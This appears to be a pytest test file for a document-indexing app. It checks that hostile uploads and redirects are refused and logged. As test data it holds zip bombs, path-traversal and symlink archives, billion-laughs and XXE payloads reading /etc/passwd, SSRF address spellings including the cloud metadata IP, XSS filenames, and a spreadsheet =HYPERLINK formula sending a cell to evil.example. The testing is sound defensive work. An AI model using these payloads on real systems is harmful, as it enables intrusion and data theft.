"""What somebody might hand over to do harm: refused, logged, and nothing else is lost by it."""

import io
import logging
import socket
import tarfile
import zipfile
from contextlib import contextmanager

import pytest

from app import worker
from app.jobs import Kind
from app.uploads import Upload, add_address, add_file
from data.fetching import FetchError, fetch, public_only
from indexing import open_index
from indexing.work import State, file_states
from tests.data.documents import docx, w_paragraph, zipped
from tests.data.test_site import page, served

ENTITIES = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'


def linked_tar():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = tarfile.TarInfo("passwords.md")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(info)
    return buffer.getvalue()


def nested_zip():
    """A bomb within a bomb, 30 MiB in a few kilobytes."""
    return zipped({"inner.zip": zipped({"bomb.txt": bytes(30 * 2**20)})})


HOSTILE = {
    "bomb.zip": (zipped({"bomb.txt": bytes(30 * 2**20)}), "times its size"),
    "nested.zip": (nested_zip(), "times its size"),
    "out.zip": (zipped({"../../../out.md": "# Out"}), "leads out"),
    "root.zip": (zipped({"/etc/cron.d/out.md": "# Out"}), "leads out"),
    "links.tgz": (linked_tar(), "link"),
    "laughs.docx": (zipped({"word/document.xml": f"{ENTITIES}<w>&c;</w>"}), "defines XML entities"),
    "large.docx": (docx("", **{"word/styles.xml": " " * 30_000_000}), ""),
    "outside.docx": (
        zipped(
            {
                "word/document.xml": '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
            }
        ),
        "defines XML entities",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_and_logged_and_the_others_are_read(base, do, caplog, name):
    content, reason = HOSTILE[name]
    add_file(base, Upload(name, io.BytesIO(content), len(content)))
    good = docx(w_paragraph("Trout live in cold rivers."))
    add_file(base, Upload("good.docx", io.BytesIO(good), len(good)))

    with caplog.at_level(logging.WARNING):
        report = do(base, Kind.UPDATE)

    assert (report["documents"], report["failed"]) == (3, 1)
    [failed] = file_states(base.index, State.FAILED)
    assert reason in failed.reason
    assert failed.reason in caplog.text
    assert base.id in caplog.text
    index = open_index(base.index)
    assert [hit.document for hit in index.search("trout", k=1, mode="lexical")] == ["good.docx"]
    assert index.search("root bash daemon haha", mode="lexical") == []
    assert not list(base.folder.parent.parent.rglob("out.md"))


@pytest.mark.parametrize(
    "host",
    [
        "127.1",
        "2130706433",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::127.0.0.1]",
        "[fe80::1]",
        "[fd00::1]",
        "[fec0::1]",
        "[::ffff:0:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b:1::7f00:1]",
        "[2002:7f00:1::]",
        "[2001:0:7f00:1::]",
        "169.254.169.254",
        "100.64.0.1",
        "localhost",
    ],
)
def test_no_spelling_of_an_inner_address_is_connected_to(host, monkeypatch):
    monkeypatch.setattr(socket, "create_connection", lambda *_: pytest.fail("it was connected to"))

    with pytest.raises(FetchError, match="is not allowed"):
        fetch(f"http://{host}:8080/latest/meta-data", may_connect=public_only())


@contextmanager
def rebinding(monkeypatch, name, *addresses):
    """A name that means another address each time it is asked for."""
    known, asked = socket.getaddrinfo, []

    def look_up(host, port, *others, **more):
        if host == name:
            asked.append(host)
            host = addresses[min(len(asked), len(addresses)) - 1]
        return known(host, port, *others, **more)

    with monkeypatch.context() as patch:
        patch.setattr(socket, "getaddrinfo", look_up)
        yield asked


def test_a_name_that_changes_its_meaning_is_asked_for_once(monkeypatch):
    reached = []

    def connect(address, *_):
        reached.append(address)
        raise ConnectionRefusedError("nobody there")

    monkeypatch.setattr(socket, "create_connection", connect)
    with (
        rebinding(monkeypatch, "rebind.example", "93.184.216.34", "127.0.0.1") as asked,
        pytest.raises(FetchError, match="cannot be reached"),
    ):
        fetch("http://rebind.example/", may_connect=public_only())

    assert reached == [("93.184.216.34", 80)]
    assert asked == ["rebind.example"]


@pytest.mark.parametrize(
    "target",
    [
        "http://169.254.169.254/latest/",
        "http://[::1]:9/",
        "http://localhost:9/",
        "file:///etc/hosts",
    ],
)
def test_a_page_that_leads_inside_is_refused_and_logged_and_the_rest_is_read(
    library, base, do, monkeypatch, caplog, target
):
    monkeypatch.setenv(worker.HOSTS_VARIABLE, "127.0.0.1")  # the only one that may be private
    pages = {"/good": page("Good"), "/evil": (302, {"Location": target}, "")}
    with served(pages) as (url, _), caplog.at_level(logging.WARNING):
        for path in pages:
            base = add_address(library, base, url + path)
        report = do(base, Kind.UPDATE)

    assert (report["documents"], report["failed"]) == (3, 1)
    [failed] = file_states(base.index, State.FAILED)
    assert failed.document == f"{url}/evil"
    assert "not a public one" in failed.reason or "is no web address" in failed.reason
    assert failed.reason in caplog.text


def test_a_page_that_is_far_too_large_is_refused(library, base, do, monkeypatch):
    monkeypatch.setenv(worker.HOSTS_VARIABLE, "127.0.0.1")
    with served({"/": "x" * (51 * 2**20)}) as (url, _):
        base = add_address(library, base, url)
        report = do(base, Kind.UPDATE)

    assert (report["documents"], report["failed"]) == (2, 1)
    [failed] = file_states(base.index, State.FAILED)
    assert "larger than 50 MiB" in failed.reason


def test_names_of_hostile_files_are_shown_as_they_are(open_home, library, base, do):
    name = "<img src=x onerror=alert(1)> [a](javascript:b) :red[c].md"
    content = b"# T\n\n<script>alert(1)</script> zander"
    add_file(base, Upload(name, io.BytesIO(content), len(content)))
    do(base, Kind.UPDATE)

    shown = open_home(library, "search", q="zander", mode="lexical")
    html = "".join(one.proto.body for one in shown.get("html"))

    assert not shown.exception
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<img src=x" not in html
    assert "<script" not in html


def test_a_table_of_hits_of_a_hostile_document_holds_no_formula(base, do):
    from app.exporting import as_csv, rows

    content = b'=HYPERLINK("http://evil.example/"&A1,"zander")\n'
    add_file(base, Upload("=cmd.txt", io.BytesIO(content), len(content)))
    do(base, Kind.UPDATE)
    hits = open_index(base.index).search("zander", k=3, mode="lexical")

    table = as_csv(rows(hits, {1: "@base"})).decode("utf-8-sig")

    assert "'=HYPERLINK" in table
    assert "'=cmd.txt" in table
    assert "'@base" in table


def test_an_archive_with_two_directories_of_contents_is_no_way_around(base, do):
    """A zip behind other bytes is the zip that Python's reader sees, and is checked as such."""
    content = b"MZ" * 100 + zipped({"../up.md": "# Up", "in.md": "# In\n\nzander"})
    add_file(base, Upload("sfx.zip", io.BytesIO(content), len(content)))
    do(base, Kind.UPDATE)

    names = {row.document for row in file_states(base.index, State.FAILED)}
    assert any("up.md" in name for name in names)
    assert zipfile.is_zipfile(io.BytesIO(content))
